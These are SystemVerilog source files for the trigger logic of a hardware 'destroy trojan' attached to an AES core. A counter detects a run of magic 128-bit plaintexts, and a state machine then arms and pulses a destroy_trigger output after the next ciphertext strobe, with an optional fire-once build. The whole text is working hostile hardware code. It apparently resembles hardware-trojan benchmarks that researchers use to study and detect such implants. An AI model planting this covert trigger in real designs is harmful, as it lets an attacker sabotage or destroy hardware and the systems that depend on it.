// File: rtl/destroy_ht_pkg.sv
// ---------------------------------------------------------------------------
// destroy_ht_pkg
// Definitions shared by the destroy-trojan trigger logic and the destroy
// payload tests:
//   state_e       - trigger sequencer state encoding (2 bits)
//   MAGIC_DEFAULT - default plaintext value that counts as a trigger match
//   FIRE_TOTAL_W  - width of the saturating firing counter
//   sat_inc_total - saturating increment for the firing counter
// ---------------------------------------------------------------------------
package destroy_ht_pkg;

    typedef enum logic [1:0] {
        StIdle  = 2'd0,
        StArmed = 2'd1,
        StFire  = 2'd2,
        StDone  = 2'd3
    } state_e;

    localparam logic [127:0] MAGIC_DEFAULT = 128'h0123_4567_89AB_CDEF_FEDC_BA98_7654_3210;

    localparam int unsigned FIRE_TOTAL_W = 8;

    function automatic logic [FIRE_TOTAL_W-1:0] sat_inc_total(
        input logic [FIRE_TOTAL_W-1:0] val
    );
        if (val == {FIRE_TOTAL_W{1'b1}}) begin
            return val;
        end
        return val + FIRE_TOTAL_W'(1);
    endfunction

endpackage

// File: rtl/ht_match_counter.sv
// ---------------------------------------------------------------------------
// ht_match_counter
// Counts consecutive matching plaintexts. A presented plaintext that does not
// match restarts the run; cycles without pt_valid leave the run untouched.
// Ports:
//   clk      in  system clock
//   rst      in  synchronous active-high reset
//   clear    in  drop the current run (and suppress hit) this cycle
//   pt_valid in  plaintext presented this cycle
//   match    in  presented plaintext equals the magic value
//   hit      out combinational pulse in the cycle whose match completes the
//                run of MATCH_COUNT; the count restarts from zero
// ---------------------------------------------------------------------------
module ht_match_counter #(
    parameter int unsigned MATCH_COUNT = 4,
    parameter int unsigned CNT_W       = 8
) (
    input  logic clk,
    input  logic rst,
    input  logic clear,
    input  logic pt_valid,
    input  logic match,
    output logic hit
);

    localparam logic [CNT_W-1:0] LastCnt = CNT_W'(MATCH_COUNT - 1);

    logic [CNT_W-1:0] count_q, count_d;

    always_comb begin
        count_d = count_q;
        hit     = 1'b0;
        if (clear) begin
            count_d = '0;
        end else if (pt_valid) begin
            if (!match) begin
                count_d = '0;
            end else if (count_q == LastCnt) begin
                hit     = 1'b1;
                count_d = '0;
            end else begin
                count_d = count_q + CNT_W'(1);
            end
        end
    end

    always_ff @(posedge clk) begin
        if (rst) begin
            count_q <= '0;
        end else begin
            count_q <= count_d;
        end
    end

endmodule

// File: rtl/destroy_trigger_ctrl.sv
// ---------------------------------------------------------------------------
// destroy_trigger_ctrl
// Decides when the destroy trojan fires. Watches the plaintext stream for a
// run of MATCH_COUNT consecutive magic values, arms, waits for the next
// ciphertext-valid strobe and then holds destroy_trigger high for
// FIRE_CYCLES cycles.
//
// Build option: define DESTROY_TRIGGER_ONESHOT_EN to make the block fire at
// most once between resets (FIRE exits to a terminal DONE state that ignores
// every input except rst). Without it FIRE returns to IDLE and re-arms.
//
// Ports:
//   clk             in  system clock, all logic on posedge
//   rst             in  synchronous active-high reset, highest priority
//   pt_valid        in  plaintext presented to the AES core this cycle
//   plaintext       in  128-bit plaintext bus
//   ct_valid        in  AES core ciphertext-valid strobe
//   disarm          in  return to IDLE from any non-terminal state
//   destroy_trigger out registered drive to the destroy payload
//   armed           out registered, high while ARMED
//   fire_total      out saturating count of completed firings
// ---------------------------------------------------------------------------
module destroy_trigger_ctrl
    import destroy_ht_pkg::*;
#(
    parameter logic [127:0] MAGIC       = MAGIC_DEFAULT,
    parameter int unsigned  MATCH_COUNT = 4,   // 1 .. 2^CNT_W-1
    parameter int unsigned  FIRE_CYCLES = 16,  // 1 .. 2^CNT_W-1
    parameter int unsigned  CNT_W       = 8
) (
    input  logic                    clk,
    input  logic                    rst,
    input  logic                    pt_valid,
    input  logic [127:0]            plaintext,
    input  logic                    ct_valid,
    input  logic                    disarm,
    output logic                    destroy_trigger,
    output logic                    armed,
    output logic [FIRE_TOTAL_W-1:0] fire_total
);

`ifdef DESTROY_TRIGGER_ONESHOT_EN
    localparam state_e FireExit = StDone;
`else
    localparam state_e FireExit = StIdle;
`endif

    localparam logic [CNT_W-1:0] FireLoad = CNT_W'(FIRE_CYCLES - 1);

    state_e                  state_q, state_d;
    logic [CNT_W-1:0]        fire_cnt_q, fire_cnt_d;
    logic                    destroy_q, destroy_d;
    logic                    armed_q, armed_d;
    logic [FIRE_TOTAL_W-1:0] fire_total_q, fire_total_d;

    logic match_clear;
    logic hit;

    // Matches only count in IDLE; a disarm cycle also drops the run.
    assign match_clear = disarm || (state_q != StIdle);

    ht_match_counter #(
        .MATCH_COUNT (MATCH_COUNT),
        .CNT_W       (CNT_W)
    ) u_match_counter (
        .clk      (clk),
        .rst      (rst),
        .clear    (match_clear),
        .pt_valid (pt_valid),
        .match    (plaintext == MAGIC),
        .hit      (hit)
    );

    always_comb begin
        state_d      = state_q;
        fire_cnt_d   = fire_cnt_q;
        destroy_d    = destroy_q;
        armed_d      = armed_q;
        fire_total_d = fire_total_q;

        if (disarm && (state_q != StDone)) begin
            state_d    = StIdle;
            fire_cnt_d = '0;
            destroy_d  = 1'b0;
            armed_d    = 1'b0;
        end else begin
            unique case (state_q)
                StIdle: begin
                    // ct_valid is deliberately not looked at here, so an
                    // arming match never fires in the same cycle.
                    if (hit) begin
                        state_d = StArmed;
                        armed_d = 1'b1;
                    end
                end
                StArmed: begin
                    if (ct_valid) begin
                        state_d    = StFire;
                        fire_cnt_d = FireLoad;
                        destroy_d  = 1'b1;
                        armed_d    = 1'b0;
                    end
                end
                StFire: begin
                    if (fire_cnt_q == '0) begin
                        state_d      = FireExit;
                        destroy_d    = 1'b0;
                        fire_total_d = sat_inc_total(fire_total_q);
                    end else begin
                        fire_cnt_d = fire_cnt_q - CNT_W'(1);
                    end
                end
                StDone: begin
`ifdef DESTROY_TRIGGER_ONESHOT_EN
                    destroy_d = 1'b0;
                    armed_d   = 1'b0;
`else
                    // Unreachable in the re-arming build; recover to IDLE.
                    state_d    = StIdle;
                    fire_cnt_d = '0;
                    destroy_d  = 1'b0;
                    armed_d    = 1'b0;
`endif
                end
                default: begin
                    state_d = StIdle;
                end
            endcase
        end
    end

    always_ff @(posedge clk) begin
        if (rst) begin
            state_q      <= StIdle;
            fire_cnt_q   <= '0;
            destroy_q    <= 1'b0;
            armed_q      <= 1'b0;
            fire_total_q <= '0;
        end else begin
            state_q      <= state_d;
            fire_cnt_q   <= fire_cnt_d;
            destroy_q    <= destroy_d;
            armed_q      <= armed_d;
            fire_total_q <= fire_total_d;
        end
    end

    assign destroy_trigger = destroy_q;
    assign armed           = armed_q;
    assign fire_total      = fire_total_q;

endmodule
